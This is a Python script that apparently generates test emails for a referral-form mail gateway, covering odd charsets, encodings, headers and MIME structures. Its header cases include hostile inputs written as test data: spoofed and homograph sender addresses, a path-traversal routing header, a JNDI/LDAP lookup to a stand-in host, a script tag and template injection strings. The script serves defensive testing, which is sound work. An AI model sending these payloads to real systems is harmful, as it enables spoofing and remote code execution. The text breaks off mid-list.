#!/usr/bin/env python3
"""Open mails as mail programs, relays and careless people make them. No other program is needed."""

import base64
import struct

from common import DESK, NAME, PLAIN, Book, b64, crlf, form, html_form, qp

LETTER = "Dear team,\n\nplease see the referral below.\n\n"
END = "\nKind regards\nAlex Adviser\n"


def text(urn, **other):
    return LETTER + form(urn, **other) + END


# --- Bodies in every charset and encoding -----------------------------------------------------


def charsets():
    book = Book("charsets", "CH")

    def body(file, charset, says, name=NAME, declared=None, encoding="8bit", outcome="applied", cause="-", read=None):
        urn = book.urn()
        raw = crlf(text(urn, name=name), "utf-8").decode("utf-8").encode(charset)
        raw = {"base64": b64, "quoted-printable": qp}.get(encoding, lambda data: data)(raw)
        declared = charset if declared is None else declared
        type_line = f"Content-Type: text/plain; charset={declared}\n" if declared else "Content-Type: text/plain\n"
        head = book.head(more=f"MIME-Version: 1.0\n{type_line}Content-Transfer-Encoding: {encoding}\n\n")
        book.put(file, crlf(head) + raw, outcome, says, cause, read or name)

    for charset, name in [
        ("utf-8", NAME),
        ("iso-8859-1", NAME),
        ("iso-8859-15", NAME),
        ("windows-1252", "Zoë O’Brien – Ångström"),
        ("windows-1250", "Łukasz Wójcik"),
        ("iso-8859-2", "Łukasz Wójcik"),
        ("iso-8859-4", "Āris Bērziņš"),
        ("iso-8859-9", "Ayşe Çelik"),
        ("windows-1254", "Ayşe Çelik"),
        ("windows-1257", "Āris Bērziņš"),
        ("koi8-r", "Зоя Петрова"),
        ("koi8-u", "Зоя Ївга"),
        ("windows-1251", "Зоя Петрова"),
        ("iso-8859-5", "Зоя Петрова"),
        ("iso-8859-7", "Ζωή Παππά"),
        ("windows-1253", "Ζωή Παππά"),
        ("windows-1255", "זואי כהן"),
        ("windows-1256", "زوي علي"),
        ("windows-1258", "Zoë Nguyên"),
        ("tis-620", "โซอี้"),
        ("gb2312", "王小明"),
        ("gb18030", "王小明"),
        ("big5", "王小明"),
        ("shift_jis", "山田花子"),
        ("euc-jp", "山田花子"),
        ("iso-2022-jp", "山田花子"),
        ("euc-kr", "김하나"),
        ("macintosh", NAME),
        ("cp850", NAME),
        ("cp437", "Zoë Ångström"),
    ]:
        python = {"windows-1252": "cp1252", "macintosh": "mac_roman"}.get(charset, charset)
        urn_name = f"{charset}.eml"
        declared = charset
        body(urn_name, python, f"text in {charset}", name, declared)
    for charset in ["utf-8", "iso-8859-1", "utf-16", "utf-16le", "utf-16be", "utf-32be", "windows-1252"]:
        python = {"windows-1252": "cp1252"}.get(charset, charset)
        body(f"{charset}-base64.eml", python, f"{charset} in Base64", encoding="base64")
    for charset in ["utf-8", "iso-8859-1", "windows-1252", "iso-8859-15"]:
        python = {"windows-1252": "cp1252"}.get(charset, charset)
        body(f"{charset}-qp.eml", python, f"{charset} in quoted-printable", encoding="quoted-printable")
    for name, real, declared, says in [
        ("latin-says-utf8", "iso-8859-1", "utf-8", "Latin-1 that says it is UTF-8"),
        ("utf8-says-ascii", "utf-8", "us-ascii", "UTF-8 that says it is ASCII"),
        ("latin-says-ascii", "iso-8859-1", "us-ascii", "Latin-1 that says it is ASCII"),
        ("utf8-says-nothing", "utf-8", "", "UTF-8 without a charset"),
        ("latin-says-nothing", "iso-8859-1", "", "Latin-1 without a charset"),
        ("1252-says-latin", "cp1252", "iso-8859-1", "Windows-1252 that says it is Latin-1, as old Outlook does"),
        ("unknown-8bit", "iso-8859-1", "unknown-8bit", "the charset unknown-8bit, as sendmail writes it"),
        ("x-unknown", "utf-8", "x-unknown", "an unknown charset, UTF-8 within, as Pine writes it"),
        ("utf8-without-dash", "utf-8", "utf8", "the charset written utf8"),
        ("cp-1252", "cp1252", "cp-1252", "the charset written cp-1252"),
        ("ansi", "cp1252", "ansi_x3.110-1983", "an ANSI charset of the name only"),
        ("single-quotes", "utf-8", "'utf-8'", "the charset in single quotes"),
        ("charset-twice", "utf-8", "utf-8; charset=iso-8859-5", "two charsets; the first is right"),
        ("comment", "utf-8", "(in words) utf-8 (of course)", "comments around the charset"),
        ("rfc2231-charset", "utf-8", "us-ascii'en'utf-8", "the charset in the form of RFC 2231, without a star"),
        ("utf-8-mb4", "utf-8", "utf8mb4", "the charset named as MySQL names it"),
        ("with-bom", "utf-8-sig", "utf-8", "UTF-8 with a byte order mark"),
        ("default", "utf-8", "default", "the charset default"),
        ("empty-quotes", "utf-8", '""', "an empty charset"),
        ("blank-in-it", "utf-8", "utf - 8", "blanks within the name of the charset"),
    ]:
        body(f"{name}.eml", real, says, declared=declared)
    urn = book.urn()
    mixed = crlf(LETTER) + crlf(form(urn), "utf-8") + "Grüße aus Zürich\r\n".encode("iso-8859-1")
    book.put("utf8-and-latin.eml", crlf(book.head(more="Content-Type: text/plain; charset=utf-8\n\n")) + mixed,
             "applied", "UTF-8, and a footer in Latin-1 that a relay added")
    body("utf-7.eml", "utf-7", "UTF-7, which no reader should know: the sign it uses stays", "Zoe Specimen",
         declared="utf-7")
    body("ebcdic.eml", "cp500", "EBCDIC that says so", NAME, "ibm500", encoding="base64")
    book.close()


def encodings():
    book = Book("encodings", "EN")

    def body(file, encoding, make, says, outcome="applied", cause="-", charset="utf-8", name=NAME):
        urn = book.urn()
        head = book.head(more=f"MIME-Version: 1.0\nContent-Type: text/plain; charset={charset}\n"
                              f"Content-Transfer-Encoding: {encoding}\n\n")
        book.put(file, crlf(head) + make(crlf(text(urn, name=name), charset)), outcome, says, cause, name)

    one_line = lambda data: base64.b64encode(data) + b"\r\n"
    body("base64-one-line.eml", "base64", one_line, "Base64 in one line of thousands of characters")
    body("base64-no-padding.eml", "base64", lambda d: base64.b64encode(d).rstrip(b"=") + b"\r\n", "Base64 without padding")
    body("base64-no-line-end.eml", "base64", base64.b64encode, "Base64 that ends without a line end")
    body("base64-with-junk.eml", "base64", lambda d: b64(d).replace(b"\r\n", b"!\r\n \r\n"), "Base64 with signs that are none")
    body("base64-footer.eml", "base64", lambda d: b64(d) + b"\r\n-- \r\nThis message was checked for viruses.\r\n",
         "Base64 below which a virus scanner wrote its footer")
    halves = lambda d: b64(d[:300]) + b64(d[300:])
    body("base64-two-pieces.eml", "base64", halves, "two pieces of Base64, each with its padding")
    body("base64-in-capitals.eml", "BASE64", b64, "the name of the encoding in capitals")
    body("base64-quoted-name.eml", '"base64"', b64, "the name of the encoding in quotes")
    body("base64-with-comment.eml", "base64 (of course)", b64, "a comment behind the name of the encoding")
    body("base64-semicolon.eml", "base64;", b64, "a semicolon behind the name of the encoding")
    body("base-64.eml", "base-64", b64, "base-64 as the name of the encoding")
    body("says-base64-is-text.eml", "base64", lambda d: d, "text that says it is Base64")
    body("says-qp-is-text.eml", "quoted-printable", lambda d: d, "text that says it is quoted-printable")
    body("says-7bit-is-8bit.eml", "7bit", lambda d: d, "eight bits that say they are seven")
    body("says-7bit-is-base64.eml", "7bit", b64, "Base64 that says it is plain text: nothing can be read in it", "not-ours", "no-form")
    body("binary.eml", "binary", lambda d: d, "binary")
    body("unknown-encoding.eml", "x-compressed", lambda d: d, "an encoding nobody knows")
    body("empty-encoding.eml", "", lambda d: d, "an empty encoding")
    body("utf-8-as-encoding.eml", "utf-8", lambda d: d, "a charset where the encoding should stand")
    body("qp-lower-case.eml", "quoted-printable", lambda d: qp(d).replace(b"=C3=AB", b"=c3=ab"), "quoted-printable in lower case")
    body("qp-bad-codes.eml", "quoted-printable", lambda d: qp(d) + b"100 =ZZ sure =\r\n=", "quoted-printable with codes that are none")
    body("qp-blanks-behind-break.eml", "quoted-printable", lambda d: qp(d).replace(b"=\r\n", b"= \t\r\n"),
         "quoted-printable with blanks behind soft line breaks")
    body("qp-of-line-ends.eml", "quoted-printable", lambda d: qp(d.replace(b"\r\n", b"\n")).replace(b"\r\n", b"=0D=0A=\r\n"),
         "quoted-printable in which line ends are encoded too")
    body("qp-all.eml", "quoted-printable", lambda d: b"".join(
        b"".join(b"=%02X" % c for c in d[i:i + 24]) + b"=\r\n" for i in range(0, len(d), 24)), "every byte encoded")
    body("qp-long-lines.eml", "quoted-printable", lambda d: b"".join(
        b"".join(b"=%02X" % c for c in d[i:i + 900]) + b"=\r\n" for i in range(0, len(d), 900)), "quoted-printable in long lines")
    body("uuencode.eml", "x-uuencode", lambda d: uu("referral.txt", d), "x-uuencode as the encoding of the body")
    body("mac-line-ends.eml", "8bit", lambda d: d.replace(b"\r\n", b"\r"), "line ends of old Macintoshes")
    body("unix-line-ends.eml", "8bit", lambda d: d.replace(b"\r\n", b"\n"), "line ends of Unix")
    body("doubled-line-ends.eml", "8bit", lambda d: d.replace(b"\r\n", b"\r\r\n"), "line ends that were made twice")
    body("mixed-line-ends.eml", "8bit", lambda d: d.replace(b"\r\n", b"\n", 9), "line ends of both kinds")
    body("nul-bytes.eml", "8bit", lambda d: d.replace(b"Zo", b"Z\0o").replace(b"Dear", b"\0Dear"), "NUL bytes in the text")
    body("control-characters.eml", "8bit", lambda d: d.replace(b"Dear", b"\x01\x08\x1b[2J\x7fDear"), "control characters in the text")
    body("form-feed.eml", "8bit", lambda d: d.replace(b"Date of birth", b"\x0cDate of birth"), "a form feed before a label")
    body("ctrl-z.eml", "8bit", lambda d: d + b"\x1a", "the end-of-file sign of DOS at the end")
    body("dot-stuffed.eml", "8bit", lambda d: d.replace(b"Dear", b"..\r\n..Dear"), "dots that SMTP doubled and nobody took away")
    body("from-quoted.eml", "8bit", lambda d: b">From the team\r\n" + d, "a line that mbox quoted")
    body("trailing-blanks.eml", "8bit", lambda d: d.replace(b"\r\n", b"   \t\r\n"), "blanks at all line ends")
    body("soft-hyphens.eml", "8bit", lambda d: d.replace("Date of birth".encode(), "Da\u00adte of birth".encode()), "a soft hyphen in a label")
    body("no-break-spaces.eml", "8bit", lambda d: d.replace("Date of birth: ".encode(), "Date\u00a0of\u00a0birth:\u00a0".encode()),
         "no-break spaces in a label")
    body("zero-width.eml", "8bit", lambda d: d.replace("Date of birth".encode(), "\u200bDate of\u200b birth".encode()),
         "zero-width spaces in a label")
    body("decomposed.eml", "8bit", lambda d: d.replace("ë".encode(), "e\u0308".encode()), "letters with their accents apart, as a Mac writes them",
         name="Zoe\u0308 Ångström")
    body("full-width.eml", "8bit", lambda d: d.replace("Name:".encode(), "Name：".encode()), "a full-width colon")
    body("tabs.eml", "8bit", lambda d: d.replace(b": ", b":\t\t"), "tabs behind labels")
    book.close()


def uu(name, data):
    import binascii
    lines = [binascii.b2a_uu(data[i:i + 45]).replace(b"\n", b"\r\n") for i in range(0, len(data), 45)]
    return f"begin 644 {name}\r\n".encode() + b"".join(lines) + b"`\r\nend\r\n"


# --- Headers ----------------------------------------------------------------------------------


def headers():
    book = Book("headers", "HD")

    def head(file, says, edit, outcome="applied", cause="-"):
        urn = book.urn()
        raw = book.head(more="MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n") + "\n" + text(urn)
        edited = edit(raw)
        book.put(file, edited if isinstance(edited, bytes) else crlf(edited), outcome, says, cause)

    def sender(file, value, says, outcome="applied", cause="-"):
        head(file, says, lambda m: m.replace(f"From: {PLAIN}", f"From: {value}"), outcome, cause)

    sender("from-name.eml", f"Alex Adviser <{PLAIN}>", "a display name")
    sender("from-quoted-name.eml", f'"Adviser, Alex \\"Al\\" (ATW)" <{PLAIN}>', "a display name with comma, quotes and brackets")
    sender("from-unquoted-comma.eml", f"Adviser, Alex <{PLAIN}>", "a display name with a comma and no quotes")
    sender("from-encoded-name.eml", f"=?utf-8?B?Wm/DqyDDhW5nc3Ryw7Zt?= <{PLAIN}>", "an encoded display name")
    sender("from-name-is-address.eml", f'"{PLAIN}" <{PLAIN}>', "the address as display name too")
    sender("from-comment.eml", f"{PLAIN} (Alex Adviser)", "a comment behind the address")
    sender("from-capitals.eml", "Plain@Council.EXAMPLE", "the address in capitals")
    sender("from-folded.eml", f"Alex\n Adviser\n\t<{PLAIN}>", "From on three lines")
    sender("from-route.eml", f"<@relay.example,@mx.example:{PLAIN}>", "a route before the address")
    sender("from-quoted-local.eml", '"plain"@council.example', "the local part in quotes: not the address of the partners file", "parked", "sender-unknown")
    sender("from-blanks.eml", "plain @ council . example", "blanks within the address: not a plain address", "parked", "sender-unclear")
    sender("from-angle-twice.eml", f"<<{PLAIN}>>", "two pairs of angle brackets")
    sender("from-group.eml", f"Team: {PLAIN};", "a group of one")
    sender("from-mailto.eml", f"<mailto:{PLAIN}>", "mailto: within the brackets")
    sender("from-utf8-name.eml", f"Zoë <{PLAIN}>", "a display name in raw UTF-8")
    sender("from-impostor-name.eml", f'"{PLAIN}" <someone@elsewhere.example>', "the partner's address as display name of a stranger",
           "parked", "sender-unknown")
    sender("from-impostor-encoded.eml", "=?utf-8?Q?plain=40council=2Eexample_=3C?= <someone@elsewhere.example>",
           "the partner's address encoded into the name of a stranger", "parked", "sender-unknown")
    sender("from-impostor-comment.eml", f"someone@elsewhere.example ({PLAIN})", "the partner's address as comment of a stranger",
           "parked", "sender-unknown")
    sender("from-encoded-address.eml", "=?utf-8?Q?plain=40council.example?=", "an encoded address: encoded words are no addresses",
           "parked", "sender-unclear")
    sender("from-homograph.eml", "plаin@council.example", "a Cyrillic letter in the address", "parked", "sender-unknown")
    sender("from-subdomain.eml", f"{PLAIN}.evil.example", "the partner's address with more behind it", "parked", "sender-unknown")
    sender("from-plus.eml", "plain+x@council.example", "a plus address: exact addresses only", "parked", "sender-unknown")
    sender("from-dot.eml", f"{PLAIN}.", "a dot behind the domain, which is the same domain")
    sender("from-two.eml", f"{PLAIN}, someone@elsewhere.example", "two senders", "parked", "sender-unclear")
    sender("from-two-stranger-first.eml", f"someone@elsewhere.example, {PLAIN}", "two senders, the stranger first", "parked", "sender-unclear")
    sender("from-empty.eml", "", "an empty From", "parked", "sender-unclear")
    sender("from-undisclosed.eml", "undisclosed-recipients:;", "an empty group as sender", "parked", "sender-unclear")
    sender("from-no-at.eml", "plain", "a sender without a domain", "parked", "sender-unclear")
    sender("from-newline-encoded.eml", f"=?utf-8?Q?x=0D=0AFrom:_{PLAIN}?= <someone@elsewhere.example>",
           "a line break encoded into the display name", "parked", "sender-unknown")
    head("from-twice.eml", "two From lines", lambda m: m.replace("To:", "From: someone@elsewhere.example\nTo:", 1), "parked", "sender-unclear")
    head("from-twice-same.eml", "the same From twice", lambda m: m.replace("To:", f"From: {PLAIN}\nTo:", 1))
    head("from-missing.eml", "no From", lambda m: m.replace(f"From: {PLAIN}\n", ""), "parked", "sender-unclear")
    head("from-blank-before-colon.eml", "a blank before the colon", lambda m: m.replace("From:", "From :"))
    head("from-capital-name.eml", "FROM in capitals", lambda m: m.replace("From:", "FROM:"))
    head("sender-stranger.eml", "a Sender that is somebody else", lambda m: m.replace("To:", "Sender: someone@elsewhere.example\nTo:", 1))
    head("reply-to-partner.eml", "a stranger with the partner as Reply-To", lambda m: m.replace(
        f"From: {PLAIN}", f"From: someone@elsewhere.example\nReply-To: {PLAIN}\nSender: {PLAIN}\nReturn-Path: <{PLAIN}>"),
        "parked", "sender-unknown")
    head("resent.eml", "a mail sent on with Resent headers", lambda m: "Resent-From: someone@elsewhere.example\nResent-To: x@y.example\n" + m)
    head("no-mime-version.eml", "no MIME-Version", lambda m: m.replace("MIME-Version: 1.0\n", ""))
    head("mime-version-comment.eml", "MIME-Version with a comment", lambda m: m.replace("1.0", "1.0 (produced by MetaSend Vx.x)"))
    head("mime-version-2.eml", "a MIME-Version that does not exist", lambda m: m.replace("1.0", "2.0"))
    head("type-twice.eml", "two Content-Type lines; the first counts", lambda m: m.replace(
        "MIME-Version: 1.0\n", "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n").replace(
        "Content-Type: text/plain; charset=utf-8\n\n", "Content-Type: application/pdf\n\n"))
    for name, value, says in [
        ("type-text", "text", "Content-Type: text, without a subtype"),
        ("type-plain", "plain; charset=utf-8", "Content-Type: plain"),
        ("type-capitals", "TEXT/PLAIN; CHARSET=UTF-8", "Content-Type in capitals"),
        ("type-semicolons", "text/plain;; charset=utf-8;", "semicolons too many"),
        ("type-comment", "text/plain (with a comment); charset=utf-8", "a comment in Content-Type"),
        ("type-unknown-text", "text/x-notes; charset=utf-8", "an unknown kind of text"),
        ("type-markdown", "text/markdown; charset=utf-8", "Markdown"),
        ("type-slash-slash", "text//plain; charset=utf-8", "two slashes"),
        ("type-broken-quotes", 'text/plain; charset="utf-8', "a quote that does not end"),
        ("type-empty", "", "an empty Content-Type"),
        ("type-folded", "text/plain;\n\tcharset=utf-8;\n\tformat=flowed;\n\tdelsp=no", "a folded Content-Type"),
        ("type-blank-equals", "text/plain; charset = utf-8", "blanks around the equals sign"),
        ("type-colon", "text/plain: charset=utf-8", "a colon where the semicolon belongs"),
        ("type-comma", "text/plain, charset=utf-8", "a comma where the semicolon belongs"),
        ("type-no-separator", "text/plain charset=utf-8", "nothing where the semicolon belongs"),
        ("type-message-subject", "text/plain; charset=utf-8; name=referral.txt", "a body with a name: a file"),
    ]:
        head(f"{name}.eml", says, lambda m, v=value: m.replace("text/plain; charset=utf-8", v))
    head("octet-stream.eml", "the form as application/octet-stream without a name",
         lambda m: m.replace("text/plain; charset=utf-8", "application/octet-stream"))
    head("no-headers-of-content.eml", "no header of content at all", lambda m: m.replace(
        "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n", ""))
    head("inline-name.eml", "a body that is inline with a name", lambda m: m.replace(
        "\n\n", "\nContent-Disposition: inline; filename=form.txt\n\n", 1))
    head("mbox-line.eml", "a line of an mbox file first", lambda m: f"From {PLAIN} Fri Nov 20 10:00:00 2026\n" + m)
    head("empty-lines-first.eml", "empty lines first", lambda m: "\n\n\n" + m)
    head("blank-in-empty-line.eml", "blanks in the line below the headers", lambda m: m.replace("\n\n", "\n \t \n", 1))
    head("junk-header.eml", "a line among the headers that is none", lambda m: m.replace("To:", "this is no header\nTo:", 1))
    head("header-without-name.eml", "a header without a name", lambda m: m.replace("To:", ": nothing\nTo:", 1))
    head("unix-headers.eml", "Unix line ends in the headers only", lambda m: m.split("\n\n", 1)[0].encode() + b"\n\n" + crlf(m.split("\n\n", 1)[1]))
    head("long-subject.eml", "a subject of 50,000 characters", lambda m: m.replace("MHSS referral", "x" * 50_000))
    head("long-header.eml", "a header longer than 64 KB", lambda m: m.replace("To:", "X-Long: " + "y" * 70_000 + "\nTo:", 1), "parked", "too-complex")
    head("many-references.eml", "a thousand references", lambda m: m.replace(
        "To:", "References: " + "".join(f"<{n}@mail.example>\n " for n in range(1000)) + "<x@y.example>\nTo:", 1))
    head("too-many-headers.eml", "1,500 headers", lambda m: "".join(f"X-{n}: y\n" for n in range(1500)) + m, "parked", "too-complex")
    head("many-received.eml", "a mail that went through 60 relays: a loop, but a form is a form", lambda m: "".join(
        f"Received: from a{n} by b{n}; Fri, 20 Nov 2026 09:00:00 +0000\n" for n in range(60)) + m)
    head("no-date.eml", "no Date", lambda m: m.replace("Date: Fri, 20 Nov 2026 10:00:00 +0000\n", ""))
    head("bad-date.eml", "a Date that is none", lambda m: m.replace("Fri, 20 Nov 2026 10:00:00 +0000", "yesterday"))
    head("date-1970.eml", "a Date of 1970", lambda m: m.replace("20 Nov 2026", "01 Jan 1970"))
    head("date-9999.eml", "a Date of the year 9999", lambda m: m.replace("20 Nov 2026", "31 Dec 9999"))
    head("no-message-id.eml", "no Message-ID", lambda m: "\n".join(l for l in m.split("\n") if not l.startswith("Message-ID")))
    head("empty-message-id.eml", "an empty Message-ID", lambda m: "\n".join(
        "Message-ID: <>" if l.startswith("Message-ID") else l for l in m.split("\n")))
    head("message-id-twice.eml", "two Message-IDs", lambda m: m.replace("To:", "Message-ID: <other@mail.example>\nTo:", 1))
    head("message-id-odd.eml", "a Message-ID with blanks, quotes and a letter of another alphabet", lambda m: "\n".join(
        'Message-ID: <"a b"@ é .example>' if l.startswith("Message-ID") else l for l in m.split("\n")))
    head("message-id-own.eml", "a Message-ID that looks like one of ours, from a partner", lambda m: "\n".join(
        "Message-ID: <forged-1@gateway.provider.example>" if l.startswith("Message-ID") else l for l in m.split("\n")))
    head("camel-headers.eml", "headers that steer the routing of a naive gateway", lambda m: (
        "CamelFileName: ../../evil\nCamelMailDelete: true\ndelete: true\nmoveTo: Trash\ncopyTo: Trash\n"
        "CamelPGPDataFormatSignatureKeyRing: x\nbreadcrumbId: y\nmail.smtp.host: evil.example\nLong-Running-Action: z\n" + m))
    head("template-marks.eml", "template and expression marks in the subject", lambda m: m.replace(
        "MHSS referral", "${sys:user.home} #{7*7} {{secret}} <script>alert(1)</script> ${jndi:ldap://evil.example/a}"))
    head("subject-encoded-in-pieces.eml", "a subject cut within a character", lambda m: m.replace(
        "MHSS referral", "=?utf-8?B?w6k=?= =?utf-8?B?w6?= =?utf-8?B?qQ==?="))
    head("subject-broken-encoding.eml", "a subject whose encoded word does not end", lambda m: m.replace("MHSS referral", "=?utf-8?B?w6k="))
    head("priority-headers.eml", "headers of Exchange and of spam filters", lambda m: (
        "X-MS-Has-Attach: yes\nX-MS-TNEF-Correlator: <x>\nX-Spam-Status: No, score=-1.9\nThread-Index: AQHa\n"
        "X-MS-Exchange-Organization-SCL: -1\nX-Priority: 1 (Highest)\nImportance: high\n" + m))
    head("dmarc-of-nobody.eml", "an Authentication-Results line that nobody trusted wrote", lambda m:
         "Authentication-Results: mx.elsewhere.example; dmarc=fail\n" + m)
    book.close()


# --- Trees ------------------------------------------------------------------------------------


def part(content, kind="text/plain; charset=utf-8", more=""):
    return f"Content-Type: {kind}\n{more}\n{content}"


def multi(parts, boundary="b", kind="mixed", end=True, before="", after="", extra=""):
    body = before + "".join(f"--{boundary}\n{p}\n" for p in parts) + (f"--{boundary}--\n" if end else "") + after
    return f'Content-Type: multipart/{kind}; boundary="{boundary}"{extra}\n\n{body}'


def file_part(name, data, kind="application/octet-stream", disposition="attachment", named=None):
    named = named or f'filename="{name}"'
    return (f"Content-Type: {kind}\nContent-Transfer-Encoding: base64\n"
            f"Content-Disposition: {disposition}; {named}\n\n{b64(data).decode()}")


def trees():
    book = Book("trees", "TR")

    def tree(file, says, make, outcome="applied", cause="-", name=None):
        urn = book.urn()
        made = make(urn)
        made = made if isinstance(made, bytes) else crlf(made)
        book.put(file, crlf(book.head(more="MIME-Version: 1.0\n")) + made, outcome, says, cause, name)

    plain = lambda urn: part(text(urn))
    hello = part("Please see the form.\n")
    tree("one-part.eml", "a multipart of one", lambda u: multi([plain(u)]))
    tree("no-end.eml", "no end boundary", lambda u: multi([plain(u)], end=False))
    tree("cut-off.eml", "a mail cut off within the boundary", lambda u: multi([plain(u)], end=False) + "--b")
    tree("no-boundary-given.eml", "no boundary given", lambda u: multi([plain(u)]).replace('; boundary="b"', ""))
    tree("wrong-boundary.eml", "a wrong boundary given", lambda u: multi([plain(u)]).replace('boundary="b"', 'boundary="c"'))
    tree("empty-boundary.eml", "an empty boundary", lambda u: multi([plain(u)]).replace('boundary="b"', 'boundary=""'))
    tree("boundary-with-blank-end.eml", "blanks behind the boundaries", lambda u: multi([plain(u)]).replace("--b\n", "--b \t\n"))
    tree("boundary-odd.eml", "a boundary of odd signs", lambda u: multi([plain(u)], boundary="=_(a)?'+_,-./:=b"))
    tree("boundary-long.eml", "a boundary of 200 characters", lambda u: multi([plain(u)], boundary="x" * 200))
    tree("boundary-unquoted-odd.eml", "a boundary with signs that need quotes, and no quotes",
         lambda u: multi([plain(u)], boundary="a/b:c=d").replace('"a/b:c=d"', "a/b:c=d"))
    tree("boundary-in-base64.eml", "a boundary in front of Base64 without an empty line between parts",
         lambda u: multi([hello, file_part("form.txt", text(u).encode())]))
    tree("preamble-form.eml", "a form in the preamble, where no mail program shows it", lambda u: multi([hello], before=text(u)),
         "not-ours", "no-form")
    tree("epilogue-form.eml", "a form behind the end, where no mail program shows it", lambda u: multi([hello], after=text(u)),
         "not-ours", "no-form")
    tree("nested-same-boundary.eml", "the same boundary inside and outside", lambda u: multi([multi([plain(u)])]))
    tree("nested-prefix.eml", "an inner boundary that begins with the outer one",
         lambda u: multi([multi([plain(u)], boundary="bb")], boundary="b"))
    tree("nested-15.eml", "15 multiparts in one another", lambda u: nested(plain(u), 15))
    tree("nested-40.eml", "40 multiparts in one another", lambda u: nested(plain(u), 40), "parked", "too-complex")
    tree("parts-400.eml", "400 parts", lambda u: multi([part(f"part {n}\n") for n in range(399)] + [plain(u)]))
    tree("parts-600.eml", "600 parts", lambda u: multi([part(f"part {n}\n") for n in range(600)]), "parked", "too-complex")
    tree("mails-in-mails.eml", "30 mails attached to one another", lambda u: attached(text(u), 30), "parked", "too-complex")
    tree("forwarded.eml", "the form in a mail sent on as attachment", lambda u: multi([hello, attached(text(u), 1)]))
    tree("forwarded-base64.eml", "a mail sent on in Base64, which no standard allows", lambda u: multi([hello, (
        "Content-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\n"
        + b64(crlf("Subject: form\nContent-Type: text/plain; charset=utf-8\n\n" + text(u))).decode())]))
    tree("forwarded-with-file.eml", "a mail sent on with the form as its file", lambda u: multi([hello, (
        "Content-Type: message/rfc822\n\nFrom: a@b.example\nSubject: form\n" + multi([hello, file_part("form.txt", text(u).encode())], boundary="in"))]))
    tree("forwarded-global.eml", "message/global, as SMTPUTF8 has it", lambda u: multi([hello, attached(text(u), 1).replace("message/rfc822", "message/global")]))
    tree("digest.eml", "a digest", lambda u: multi([f"\nSubject: one\nContent-Type: text/plain; charset=utf-8\n\n{text(u)}"], kind="digest"))
    tree("partial.eml", "message/partial: pieces are not put together", lambda u:
         'Content-Type: message/partial; id="x@y.example"; number=1; total=2\n\nSubject: one\n\n' + text(u))
    tree("external-body.eml", "message/external-body: nothing is fetched", lambda u: multi([hello, (
        'Content-Type: message/external-body; access-type=URL; URL="http://127.0.0.1:9/form.pdf"\n\n'
        "Content-Type: application/pdf\n\n")]), "not-ours", "no-form")
    tree("alternative.eml", "text and the same in HTML", lambda u: multi([plain(u), part(html_form(u), "text/html; charset=utf-8")], kind="alternative"))
    tree("alternative-differs.eml", "an HTML form that names another case than the text", lambda u: multi(
        [plain(u), part(html_form("ZZ9999"), "text/html; charset=utf-8")], kind="alternative"), "parked", "several-messages")
    tree("alternative-html-first.eml", "HTML before the text", lambda u: multi([part(html_form(u), "text/html; charset=utf-8"), plain(u)], kind="alternative"))
    tree("alternative-empty-text.eml", "an empty text and HTML", lambda u: multi([part("\n"), part(html_form(u), "text/html; charset=utf-8")], kind="alternative"))
    tree("related.eml", "HTML with its pictures", lambda u: multi([part(html_form(u), "text/html; charset=utf-8"), file_part(
        "logo.png", PNG, "image/png", "inline")], kind="related", extra='; type="text/html"'))
    tree("apple-double.eml", "AppleDouble: a resource fork beside the file", lambda u: multi([hello, multi([
        file_part("form.txt", b"\0\x05\x16\x07\0\x02\0\0Mac OS X", "application/applefile"),
        file_part("form.txt", text(u).encode(), "text/plain; charset=utf-8")], boundary="in", kind="appledouble")]))
    tree("report-form.eml", "multipart/x-unknown, read as mixed", lambda u: multi([hello, plain(u)], kind="x-unknown"))
    tree("base64-multipart.eml", "a multipart that says it is Base64, which no standard allows",
         lambda u: "Content-Transfer-Encoding: base64\n" + multi([plain(u)]))
    tree("qp-multipart.eml", "a multipart that says it is quoted-printable", lambda u: "Content-Transfer-Encoding: quoted-printable\n" + multi([plain(u)]))
    tree("signed-smime.eml", "an S/MIME signature, which proves nothing here", lambda u: multi([plain(u), file_part(
        "smime.p7s", b"0\x80\x06\x09*\x86H\x86\xf7\r\x01\x07\x02", "application/pkcs7-signature")], kind="signed",
        extra='; protocol="application/pkcs7-signature"; micalg=sha-256'))
    tree("opaque-smime.eml", "an opaque S/MIME message: it stays closed", lambda u: file_part("smime.p7m", b"0\x80\x06\x09*\x86H\x86\xf7\r\x01\x07\x03",
         "application/pkcs7-mime; smime-type=enveloped-data"), "parked", "document-not-a-known-format")
    tree("calendar.eml", "an invitation", lambda u: multi([hello, part("BEGIN:VCALENDAR\nEND:VCALENDAR\n", "text/calendar; method=REQUEST")], kind="alternative"),
         "not-ours", "no-form")
    tree("same-form-twice.eml", "the form in the body and the same as a file", lambda u: multi([plain(u), file_part("form.txt", text(u).encode())]))
    tree("two-forms.eml", "two forms of two cases", lambda u: multi([file_part("a.txt", text(u).encode()), file_part("b.txt", text("ZZ8888").encode())]),
         "parked", "several-messages")
    tree("uuencoded-form.eml", "the form uuencoded in the text", lambda u: b"Content-Type: text/plain\r\n\r\nSee the form.\r\n" + uu("form.txt", crlf(text(u))))
    tree("yenc.eml", "yEnc, which nobody reads here", lambda u: b"Content-Type: text/plain\r\n\r\n=ybegin line=128 size=5 name=form.txt\r\n"
         + bytes((c + 42) % 256 for c in b"hello") + b"\r\n=yend size=5\r\n", "not-ours", "no-form")
    tree("winmail.eml", "winmail.dat of Outlook with the form in it", lambda u: multi([part("\n"), file_part(
        "winmail.dat", tnef(("form.txt", crlf(text(u)))), "application/ms-tnef")]))
    tree("winmail-wrong-type.eml", "winmail.dat as application/octet-stream", lambda u: multi([part("\n"), file_part(
        "winmail.dat", tnef(("form.txt", crlf(text(u)))))]))
    tree("winmail-cut.eml", "half a winmail.dat", lambda u: multi([hello, file_part(
        "winmail.dat", tnef(("form.txt", crlf(text(u))))[:200], "application/ms-tnef")]), "parked", "document-not-a-known-format")
    tree("winmail-size-lies.eml", "a winmail.dat that claims two gigabytes", lambda u: multi([hello, file_part(
        "winmail.dat", tnef(("form.txt", b"x" * 40))[:60] + b"\xff\xff\xff\x7f" * 4, "application/ms-tnef")]), "parked", "document-not-a-known-format")
    tree("winmail-two.eml", "a winmail.dat with two files", lambda u: multi([part("\n"), file_part(
        "winmail.dat", tnef(("a.txt", b"Nothing.\r\n"), ("form.txt", crlf(text(u)))), "application/ms-tnef")]))
    for file, named, says in [
